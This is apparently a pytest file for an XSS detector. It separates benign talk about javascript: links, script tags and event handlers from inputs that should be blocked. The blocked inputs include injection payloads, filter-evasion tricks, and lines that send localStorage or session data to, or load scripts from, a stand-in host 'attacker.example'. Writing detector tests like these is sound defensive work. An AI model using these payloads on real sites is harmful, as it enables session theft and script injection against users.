"""What people write of markup and script, and the attacks that look alike."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.xss import DETECTOR

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    "text",
    [
        "The sanitizer drops `javascript:` from every href",
        "Allow `mailto:` and `tel:`, never `javascript:`.",
        'Links that begin with "javascript:" are removed',
        "Where does <script nomodule> belong?",
        'Can I put <script type="text/babel"> below the body?',
        "What was <body onunload> for",
        '`onchange="..."` or on("change", ...)?',
        "(un)confirm(ed)",
        "alert(s)/confirm(ation)s",
        "prompt(s): 12",
        'Avoid <a href="javascript:void(0)"> for buttons',
        'Why does <iframe src="..."> stay white?',
        'Does <base href="/"> change my anchors?',
    ],
)
def test_what_is_only_named_passes(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        "`javascript:`+alert(7)",
        "'javascript:' + name",
        "location=['javascript:',name].join('')",
        'You may see `javascript:` here "><script>alert(7)</script>',
        "Fine: `javascript:` <a href=javascript:alert(7)>a</a>",
        "How to use <script src=//attacker.example/a.js>?",
        "How to use <script>alert(7)",
        "How to use <script>MsgBox+7",
        "What is <body onload=alert(7)>",
        'Avoid <a href="javascript:void(0);alert(7)"> for buttons',
        '"javascript:void(0)"+alert(7)',
        'Why does <iframe src="...//attacker.example"> stay white?',
        'Does <base href="//attacker.example"> change my anchors?',
        "What is <body onload='",
        "`onclick=alert(7)",
        '"onclick="go',
        "alert(s)+alert(7)",
        "alert(s);alert(7)",
        "alert()",
    ],
)
def test_what_runs_is_stopped_whatever_is_said_around_it(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "fetch('//attacker.example/'+localStorage.session)",
        "fetch(`https://attacker.example/${sessionStorage.getItem('a')}`)",
        "x.src='https://attacker.example/?a='+btoa(JSON.stringify(localStorage))",
        "/* one two three four five six seven eight nine */fetch('//b.example/'+localStorage.a)",
        "jQuery.getScript('//attacker.example/a.js')",
        "$.getScript('https://attacker.example/a.js')",
        "$.post('//attacker.example/a')",
        "valueOf=confirm;self*1",
        "Array.from`7${prompt}`",
        "[7].some`${alert}`",
    ],
)
def test_what_is_sent_and_got_by_script_is_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "fetch('https://api.example.com/me', {headers: {a: localStorage.getItem('token')}})",
        "fetch('/api/items').then(r => r.json())",
        "$.get('/api/items')",
        "'https://share.example/?to=' + encodeURIComponent(location.pathname)",
        "We load it with $.getScript('https://cdn.example.com/a.js') when needed",
        "const kept = localStorage.getItem('theme')",
        "<b className={`box ${alert}`}>",
        "valueOf: returns a number; toString: a text",
    ],
)
def test_what_programs_of_pages_do_all_day_passes(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS
